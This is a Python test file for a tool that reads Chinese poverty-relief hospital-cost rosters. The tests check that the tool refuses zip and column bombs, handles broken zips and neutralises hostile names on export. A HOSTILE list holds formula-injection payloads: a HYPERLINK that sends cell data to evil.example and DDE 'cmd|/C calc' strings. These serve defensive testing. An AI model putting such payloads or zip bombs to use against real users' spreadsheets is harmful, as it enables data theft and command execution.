"""Files as staff and attackers have them: staff-style headers and words, title rows,
two-level headers, every encoding and line end, hostile names in the export, column and zip bombs,
broken zips, a zip named .csv. Each refusal is one Chinese message naming the limit, never a
traceback, and memory stays bounded (the bombs are refused before anything is inflated)."""
from __future__ import annotations

import csv
import io
import json
import struct
import subprocess
import sys
import zipfile
from decimal import Decimal

import openpyxl
import pytest

import roster
from roster import export, read, worker
from roster.format import MESSAGES, RosterError
from calc.api import estimate_dict

STAFF_CSV = """2024年示例镇困难群众住院费用测算名单
序号,姓名,身份证号,人员类别,村,住院1总费用,住院1医院等级,住院1就医地点
1,张三,410101199001011234,低保户,东村,30000,二级,县内
2,李四,410101199001015678,特困供养,东村,50000,三级,县外市内
3,王五,410101199001019999,一般户,西村,20000,二级,县内
4,赵六,410101199001018888,低保户、监测户,西村,80000,三级,省内市外
5,钱七,410101199001017777,五保户,西村,12000,一级,县内
6,孙八,410101199001016666,脱贫户,西村,15000,二级,县内
"""
WANT = {  # what each row means, written as calc input (xianning's own words)
    3: ["dibao"], 4: ["tekun"], 5: ["putong"], 6: ["dibao", "jiance"], 7: ["tekun"], 8: ["wending"],
}
STAYS = {3: ("30000", "2", "county"), 4: ("50000", "3", "city"), 5: ("20000", "2", "county"),
         6: ("80000", "3", "province"), 7: ("12000", "1", "county"), 8: ("15000", "2", "county")}


def _ok(data, region="xianning"):
    out = roster.run(data, region)
    assert out["ok"], out
    return out


def _assert_staff_rows(out):
    rows = {r["line"]: r for r in out["rows"]}
    assert sorted(rows) == sorted(WANT)
    for line, ids in WANT.items():
        total, level, place = STAYS[line]
        want = estimate_dict({"region": "xianning", "identities": ids,
                              "stays": [{"total": total, "level": level, "place": place}]})
        assert rows[line]["ok"], rows[line]
        assert rows[line]["year"] == want["year"], line
        assert rows[line]["identity"] == want["identity"]["label"]
    assert [rows[n]["name"] for n in sorted(rows)] == ["张三", "李四", "王五", "赵六", "钱七", "孙八"]  # not 序号
    assert {r["group"] for r in rows.values()} == {"东村", "西村"}


def test_staff_file_title_row_xuhao_id_number_and_staff_words():
    out = _ok(STAFF_CSV.encode("gbk"))
    _assert_staff_rows(out)
    assert "身份证号" in out["unknown_columns"] and "序号" in out["unknown_columns"]
    assert "4101011990" not in out["csv"] and "4101011990" not in json.dumps(out["rows"])  # never copied


@pytest.mark.parametrize("ident_header", ["人员类别", "属性", "类别", "身份"])
def test_identity_column_names_and_id_number_after_it(ident_header):
    text = f"姓名,{ident_header},身份证号,证件号,住院1总费用\n张三,低保户,410101199001011234,X1,30000\n"
    row = _ok(text)["rows"][0]
    assert row["ok"] and row["identity_id"] == "dibao"


def test_only_id_number_is_no_identity_column():
    assert roster.run("姓名,身份证号,住院1总费用\nA,410101199001011234,1000\n", "xianning")["message"] == \
        MESSAGES["no_identity"]


def test_xuhao_alone_is_never_the_name():
    out = _ok("序号,身份,住院1总费用\n7,低保,1000\n")
    assert out["rows"][0]["name"] == ""


@pytest.mark.parametrize("encode", [
    lambda t: t.encode("utf-8"), lambda t: ("\ufeff" + t).encode("utf-8"), lambda t: t.encode("gbk"),
    lambda t: t.encode("gb18030"), lambda t: t.replace(",", "\t").encode("utf-16"),  # Excel "Unicode 文本"
    lambda t: t.replace("\n", "\r\n").encode("gbk"), lambda t: t.replace("\n", "\r").encode("utf-8"),  # old Mac
    lambda t: t.replace("\n", "\r").encode("utf-16-le"), lambda t: t.replace(",", "\t"),
], ids=["utf8", "utf8-bom", "gbk", "gb18030", "utf16-tab", "crlf-gbk", "cr-only", "utf16le-nobom-cr", "pasted-tabs"])
def test_every_encoding_and_line_end_reads_alike(encode):
    _assert_staff_rows(_ok(encode(STAFF_CSV)))


def _xlsx(rows, merge=()) -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    for r in rows:
        ws.append(r)
    for m in merge:
        ws.merge_cells(m)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def test_two_level_merged_header_is_read_not_dropped():
    rows = [["2024年示例村名单"], ["姓名", "身份", "第一次住院", None, None, "第二次住院", None, "门诊"],
            [None, None, "总费用", "目录外", "医院等级", "总费用", "医院等级", "慢特病"],
            ["张三", "低保户", 30000, 2000, "二级", 45000, "三级", 3000]]
    data = _xlsx(rows, merge=["A2:A3", "B2:B3", "C2:E2", "F2:G2"])
    row = _ok(data)["rows"][0]
    want = estimate_dict({"region": "xianning", "identities": ["dibao"], "outpatient": {"chronic": "3000"},
                          "stays": [{"total": "30000", "out_of_policy": "2000", "level": "2"},
                                    {"total": "45000", "level": "3"}]})
    assert row["line"] == 4 and row["name"] == "张三"
    assert row["year"] == want["year"] and Decimal(row["year"]["total"]) == 78000


def test_costlike_columns_that_mean_nothing_are_said_loudly():
    out = _ok("姓名,身份,住院1总费用,门诊费用合计\nA,低保,1000,500\n")
    assert out["costlike_columns"] == ["门诊费用合计"]


def test_unknown_word_is_quoted_with_the_regions_list():
    row = _ok("姓名,身份,住院1总费用\nA,脱贫户,1000\n", "dongzhi")["rows"][0]  # 东至 offers no 脱贫 identity
    assert not row["ok"]
    msg = row["errors"][0]["message"]
    assert "“脱贫户”" in msg and "防止返贫监测对象" in msg and row["errors"][0]["column"] == "身份"


HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1"]


def test_hostile_names_never_come_out_live_in_csv_or_xlsx():
    text = "姓名,身份,住院1总费用\n" + "".join(
        f'"{n.replace(chr(34), chr(34) * 2)}",低保,{1000 + i}\n' for i, n in enumerate(HOSTILE))
    out = _ok(text)
    got = list(csv.reader(io.StringIO(out["csv"].lstrip("\ufeff"))))[1:]
    names = [line[1] for line in got]
    assert len(names) == len(HOSTILE)
    for name in names:
        assert not name.startswith(export.DANGEROUS), name
    assert [n[1:] for n in names] == [r["name"] for r in out["rows"]]  # only the ' was added
    # numbers stay numbers
    assert export.safe_cell("-12.50") == "-12.50" and export.safe_cell("+3") == "+3"
    wb = openpyxl.load_workbook(io.BytesIO(export.result_xlsx(out["rows"], out["columns"], False)))
    cells = [c for row in wb.active.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    assert sorted(c.value for c in cells if c.column == 2 and c.row > 1) == sorted(r["name"] for r in out["rows"])


def _patched_sheet(xml_from: str, xml_to: str) -> bytes:
    data = _xlsx([["姓名", "身份", "住院1总费用"], ["A", "低保", 1000]])
    src = zipfile.ZipFile(io.BytesIO(data))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
        for info in src.infolist():
            body = src.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                body = body.decode().replace(xml_from, xml_to).encode()
            out.writestr(info.filename, body)
    return buf.getvalue()


@pytest.mark.parametrize("old,new,message", [('r="C2"', 'r="ZZZZZZZZZZ2"', "too_wide"), ('r="C2"', 'r="XFE2"', "too_wide"),
                                             ('<row r="2"', '<row r="2000000"', "too_many")])
def test_column_and_row_bombs_are_refused_naming_the_limit(old, new, message):
    data = _patched_sheet(old, new)
    assert len(data) < 10_000
    assert roster.run(data, "xianning") == {"ok": False, "message": MESSAGES[message]}


def test_a_claimed_dimension_of_the_whole_sheet_is_not_padded_to():
    data = _patched_sheet('<dimension ref="A1:C2" />', '<dimension ref="A1:XFD1048576" />')
    assert _ok(data)["rows"][0]["ok"]


def _set_central(data: bytes, **fields) -> bytes:
    """Rewrite fields of every central-directory entry (what zipfile trusts)."""
    b = bytearray(data)
    i = b.find(b"PK\x01\x02")
    while i != -1:
        if "flags" in fields:
            struct.pack_into("<H", b, i + 8, fields["flags"])
        if "method" in fields:
            struct.pack_into("<H", b, i + 10, fields["method"])
        if "size" in fields:
            struct.pack_into("<I", b, i + 24, fields["size"])
        i = b.find(b"PK\x01\x02", i + 4)
    return bytes(b)


def test_zip_bomb_named_csv_is_refused_from_the_directory_before_inflating(tmp_path):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<x/>")
        z.writestr("xl/workbook.xml", "<x/>")
        z.writestr("xl/worksheets/sheet1.xml", b"\0" * (1 << 20))
    small = buf.getvalue()
    bomb = _set_central(small, size=read.MAX_UNZIPPED_BYTES // 2)  # two members claim > the limit
    path = tmp_path / "名单.csv"
    path.write_bytes(bomb)
    assert roster.run(path.read_bytes(), "xianning") == {"ok": False, "message": MESSAGES["unzipped"]}
    # and through the command line, with its name
    proc = subprocess.run([sys.executable, "-m", "roster", str(path), "--region", "xianning"],
                          capture_output=True, text=True, timeout=60)
    assert proc.returncode == 2 and MESSAGES["unzipped"] in proc.stderr and "Traceback" not in proc.stderr


def test_a_real_bomb_is_refused_by_its_directory(monkeypatch):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<x/>")
        z.writestr("xl/worksheets/sheet1.xml", b"<" * (20 << 20))
    monkeypatch.setattr(read, "MAX_UNZIPPED_BYTES", 10 << 20)
    assert len(buf.getvalue()) < 100_000
    with pytest.raises(RosterError, match="解压后超过"):
        read.read_table(buf.getvalue())


@pytest.mark.parametrize("damage", ["encrypted", "method", "truncated", "garbage", "not_xlsx", "lying_size"])
def test_broken_zips_give_a_message_never_a_traceback(damage):
    good = _xlsx([["姓名", "身份", "住院1总费用"], ["A", "低保", 1000]])
    data = {"encrypted": lambda: _set_central(good, flags=1), "method": lambda: _set_central(good, method=99),
            "truncated": lambda: good[: len(good) // 2], "garbage": lambda: b"PK\x03\x04" + b"\x00" * 300,
            "lying_size": lambda: _set_central(good, size=10),
            "not_xlsx": lambda: _zip_of({"readme.txt": "hello"})}[damage]()
    out = roster.run(data, "xianning")
    assert out["ok"] is False and out["message"] in (MESSAGES["xlsx"], MESSAGES["not_xlsx"])
    assert json.loads(worker.prepare_json(json.dumps({"region": "xianning", "base64": __import__("base64").b64encode(data).decode()})))["ok"] is False


def _zip_of(files):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for n, t in files.items():
            z.writestr(n, t)
    return buf.getvalue()


def test_old_xls_and_encrypted_xlsx_are_refused_with_advice():
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
    assert roster.run(ole, "xianning") == {"ok": False, "message": MESSAGES["xls"]}


def test_too_many_rows_while_streaming_and_too_many_columns(monkeypatch):
    monkeypatch.setattr(read, "ROW_LIMIT", 50)
    text = "姓名,身份,住院1总费用\n" + "A,低保,1000\n" * 60
    assert roster.run(text, "xianning")["message"] == MESSAGES["too_many"]
    wide = "姓名,身份,住院1总费用" + ",x" * 16_400 + "\nA,低保,1000\n"
    assert roster.run(wide, "xianning")["message"] == MESSAGES["too_wide"]


@pytest.mark.parametrize("payload", ["[]", "null", "1", '"x"', "{", json.dumps({"region": "xianning", "base64": "!!"}),
                                     json.dumps({"jobs": [[1]]}), json.dumps({"jobs": "x"})])
def test_worker_entries_answer_bad_payloads_with_a_message(payload):
    for fn in (worker.prepare_json, worker.estimate_json, worker.summary_json, worker.sheets_json, worker.xlsx_json):
        out = json.loads(fn(payload))
        assert out["ok"] is False and out["message"]


def test_command_line_template_as_the_readme_writes_it():
    for cmd in (["-m", "calc", "roster", "--template"], ["-m", "roster", "--template"]):
        proc = subprocess.run([sys.executable, *cmd], capture_output=True, text=True, timeout=60)
        assert proc.returncode == 0, proc.stderr
        assert next(csv.reader(io.StringIO(proc.stdout.lstrip("\ufeff")))) == roster.columns()


def test_xlsx_export_through_the_command_line(tmp_path):
    src = tmp_path / "名单.csv"
    src.write_bytes(STAFF_CSV.encode("gbk"))
    out = tmp_path / "结果.xlsx"
    proc = subprocess.run([sys.executable, "-m", "roster", str(src), "--region", "xianning", "--out", str(out)],
                          capture_output=True, text=True, timeout=60)
    assert proc.returncode == 0, proc.stderr
    ws = openpyxl.load_workbook(out).active
    values = [[c.value for c in row] for row in ws.iter_rows()]
    assert values[0][:3] == ["行号", roster.NAME, roster.GROUP] and len(values) == 7
    assert not any("4101011990" in str(v) for row in values for v in row)


def test_sheets_one_per_computed_person_link_without_name_or_amounts():
    out = _ok(STAFF_CSV)
    sh = json.loads(worker.sheets_json(json.dumps({"region": "xianning", "rows": out["rows"],
                                                   "base_url": "https://example.gov.cn/yb/"})))
    assert sh["ok"] and len(sh["sheets"]) == 6
    for s, r in zip(sh["sheets"], out["rows"]):
        assert s["name"] == r["name"] and s["resident"] == r["year"]["resident"]
        assert s["link"].startswith("https://example.gov.cn/yb/xianning/#")
        assert r["name"] not in s["link"] and r["year"]["total"].split(".")[0] not in s["link"]
    assert len(sh["links"]) == len({r["identity_id"] for r in out["rows"]})
